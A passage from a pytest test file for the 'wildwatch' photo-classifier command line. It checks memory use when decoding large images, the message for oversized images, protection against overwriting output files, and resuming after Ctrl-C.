    fcntl.ioctl(child, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    proc = subprocess.run([WILDWATCH, "classify", str(photos), "-q"], stdout=subprocess.PIPE, stderr=child,
                          timeout=120, check=False)
    os.close(child)
    seen = b""
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
    os.close(main)
    assert proc.returncode == 0 and proc.stdout == b""  # no table ...
    assert b"classifying: 3img" in seen and b"3 classified" in seen  # ... but progress and the summary


MODE_IMAGES = {  # 39.9 Mpx (the service's limit) in the modes that once took 1 to 1.3 GB to decode
    "rgba.webp": ("RGBA", (90, 140, 70, 128), "WEBP", {"lossless": True, "quality": 0, "method": 0}),
    "float.tiff": ("F", 3000, "TIFF", {"compression": "tiff_deflate"}),
    "sixteen.png": ("I;16", 3000, "PNG", {"compress_level": 1}),
}


@pytest.mark.parametrize("name", sorted(MODE_IMAGES))
def test_decoding_any_pixel_mode_at_the_limit_stays_under_a_gigabyte(tmp_path, name):
    # issue 28 item 7: one 1.6 KB RGBA WebP at the 40 Mpx limit peaked at 1.28 GB, an F-mode TIFF at 1.17 GB
    mode, colour, fmt, options = MODE_IMAGES[name]
    path = tmp_path / name
    Image.new(mode, (6300, 6330), colour).save(path, format=fmt, **options)
    code = ("import resource, sys; from pathlib import Path\n"
            "from wildwatch.data.loading import load_photo_bytes\n"
            "data = Path(sys.argv[1]).read_bytes()\n"
            "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
            "img, _ = load_photo_bytes(data, 'upload', 40_000_000, (256, 256))\n"
            "print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024, *img.size, img.mode)")
    proc = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=300,
                          check=False)
    assert proc.returncode == 0, proc.stderr
    extra_mb, w, h, out_mode = proc.stdout.split()
    assert out_mode == "RGB" and int(w) * int(h) <= 4_000_000  # reduced as it was decoded
    assert int(extra_mb) < 800, f"decoding took {extra_mb} MB"


def test_one_image_limit_with_one_message_and_large_jpegs_reduced_while_decoding(tmp_path):
    # issue 28 item 15: a panorama met three limits (64 Mpx, "decompression bomb ... 89478485", "178956970")
    from wildwatch.data.loading import DEFAULT_MAX_PIXELS, ImageLoadError, load_image

    pano = tmp_path / "panorama.jpg"
    Image.new("L", (16000, 12000), 120).save(pano, quality=70)  # 192 Mpx: beyond Pillow's own bomb check
    img = load_image(pano, draft_size=(256, 256))
    assert img.mode == "RGB" and img.size == (2000, 1500)  # read at 1/8 scale
    wide = tmp_path / "wide.png"
    Image.new("L", (10000, 10000), 120).save(wide, compress_level=1)  # 100 Mpx, and not a JPEG: refused
    with pytest.raises(ImageLoadError) as info:
        load_image(wide)
    message = str(info.value)
    assert f"{DEFAULT_MAX_PIXELS:,}" in message and "10000x10000" in message
    assert not any(x in message for x in ("89478485", "178956970", "89,478,485", "178,956,970", "bomb"))


def test_an_output_is_never_replaced_silently_and_a_json_output_survives_ctrl_c(tmp_path):
    # issue 28 item 14: --output replaced 1,000 rows by 1; a .json output could not survive Ctrl-C nor resume
    from wildwatch.inference.batch import ClassifyInterrupted, ClassifyOptions, classify_files
    from wildwatch.inference.writers import partial_path

    photos = tmp_path / "photos"
    photos.mkdir()
    for i in range(8):
        Image.new("RGB", (64, 48), (30 * i, 100, 60)).save(photos / f"{i}.jpg")
    out = tmp_path / "rows.csv"
    subprocess.run([WILDWATCH, "classify", str(photos), "--output", str(out), "-q"], check=True, capture_output=True,
                   timeout=300)
    before = out.read_bytes()
    proc = subprocess.run([WILDWATCH, "classify", str(photos / "0.jpg"), "--output", str(out), "-q"],
                          capture_output=True, text=True, timeout=300, check=False)
    assert proc.returncode == 2 and "--resume" in proc.stderr and "--overwrite" in proc.stderr
    assert out.read_bytes() == before
    proc = subprocess.run([WILDWATCH, "classify", str(photos / "0.jpg"), "--output", str(out), "-q", "--overwrite"],
                          capture_output=True, text=True, timeout=300, check=False)
    assert proc.returncode == 0 and len(out.read_text().splitlines()) == 2
    doc = tmp_path / "rows.json"
    seen = []

    def ctrl_c_after_five(p):
        seen.append(p.source)
        if len(seen) == 5:
            raise KeyboardInterrupt

    with pytest.raises(ClassifyInterrupted) as info:
        classify_files(ClassifyOptions(paths=[photos], output=doc), ctrl_c_after_five)
    assert info.value.rows == 5 and "5 rows written" in info.value.line() and "--resume" in info.value.line()
    assert not doc.exists() and len(partial_path(doc).read_text().splitlines()) == 5
    summary = classify_files(ClassifyOptions(paths=[photos], output=doc, resume=True))
    assert summary.already_done == 5 and summary.files == 3
    rows = json.loads(doc.read_text())
    assert sorted(Path(r["source"]).name for r in rows) == sorted(p.name for p in photos.iterdir())
    assert not partial_path(doc).exists()
    # the command line: Ctrl-C says how many rows are kept and how to go on, and exits 130
    many = tmp_path / "many"
    many.mkdir()
    for i in range(2000):  # enough that the run is still going when the signal comes, even on a fast machine
        Image.new("RGB", (64, 48), (i % 250, 90, 60)).save(many / f"{i:04d}.jpg")
    slow = tmp_path / "slow.jsonl"
    # a handled SIGINT is reset to its default in the child, so the child takes Ctrl-C even when the
    # tests run as a background job (which ignores it, and an ignored signal stays ignored across exec)
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        proc = subprocess.Popen([WILDWATCH, "classify", str(many), "--output", str(slow), "--batch-size", "1", "-q"],
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    finally:
        signal.signal(signal.SIGINT, previous)
    for _ in range(3000):
        if slow.exists() and slow.read_text().count("\n") >= 2:
            break
        time.sleep(0.01)
    proc.send_signal(2)  # SIGINT, as Ctrl-C sends
    err = proc.communicate(timeout=60)[1]
    kept = slow.read_text().count("\n")
    assert proc.returncode == 130 and f"{kept} rows written to {slow}; rerun with --resume" in err, err
    assert "Traceback" not in err
